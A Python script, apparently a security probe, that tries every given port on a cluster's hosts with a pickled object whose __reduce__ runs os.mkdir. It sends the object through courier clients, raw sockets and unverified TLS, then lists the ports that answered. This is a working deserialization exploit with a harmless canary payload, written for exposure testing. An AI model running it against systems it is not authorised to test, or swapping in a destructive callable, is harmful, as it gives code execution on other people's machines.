"""What a stranger tries on every port of a cluster's hosts: a program, with the ports and a path.

Prints a line for each port on which a service of a run answered.
"""

from __future__ import annotations

import concurrent.futures
import contextlib
import os
import pickle
import socket
import ssl
import sys

import courier
import reverb

_PATIENCE_S = 2


class MakesFolder:
    """Makes a folder where it is unpickled."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return os.mkdir, (self.path,)


def attack(address: str, path: str) -> list[str]:
    """Tries all that a stranger can on one port; returns what gave an answer."""
    answered = []
    host, _, port = address.rpartition(":")
    with contextlib.suppress(Exception):
        courier.Client(address, call_timeout=_PATIENCE_S).report(MakesFolder(path))
        answered.append("courier")
    with contextlib.suppress(Exception):
        reverb.Client(address).server_info(timeout=_PATIENCE_S)
        answered.append("reverb")
    with contextlib.suppress(OSError), socket.create_connection((host, int(port)), 2) as raw:
        raw.sendall(pickle.dumps(MakesFolder(path)))
        raw.settimeout(_PATIENCE_S)
        raw.recv(1)
    anyone = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    anyone.check_hostname, anyone.verify_mode = False, ssl.CERT_NONE
    with (
        contextlib.suppress(OSError),
        socket.create_connection((host, int(port)), 2) as raw,
        anyone.wrap_socket(raw) as encrypted,
    ):
        encrypted.sendall(pickle.dumps(MakesFolder(path)))
        encrypted.settimeout(_PATIENCE_S)
        if encrypted.recv(1):
            answered.append("tls")
    return answered


def main() -> None:
    """Attacks all."""
    path, *addresses = sys.argv[1:]
    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        for address, answered in zip(
            addresses, pool.map(lambda each: attack(each, path), addresses), strict=True
        ):
            if answered:
                print(address, *answered, flush=True)


if __name__ == "__main__":
    main()
    # Clients that still wait for an answer would hold the process.
    sys.stdout.flush()
    os._exit(0)
